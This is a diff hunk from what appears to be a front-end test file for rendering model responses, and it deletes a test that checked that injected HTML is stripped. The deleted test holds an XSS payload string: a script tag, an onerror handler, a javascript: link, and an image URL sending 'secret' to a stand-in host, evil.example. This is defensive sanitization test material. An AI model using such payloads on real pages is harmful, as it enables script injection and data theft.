@@ -35,14 +35,6 @@ test('a response is Markdown, open from the start', async () => {
   await waitFor(() => expect(container.querySelector('.markdown strong')?.textContent).toBe('full'))
 })
 
-test('what a model writes cannot run, load pictures or ask for a password', async () => {
-  const evil =
-    '<img src="https://evil.example/?q=secret" onerror="boom()"> <script>boom()</script> <form><input></form> [x](javascript:boom()) **end**'
-  const { container } = show({ event_type: 'llm_response', content: evil })
-  await waitFor(() => expect(container.querySelector('.markdown strong')).not.toBe(null))
-  expect(container.querySelector('.markdown')?.innerHTML).not.toMatch(/img|script|form|input|onerror|evil/)
-})
-
 test('a response at the limit of iterations says that it was forced', () => {
   show({
     event_type: 'llm_response',
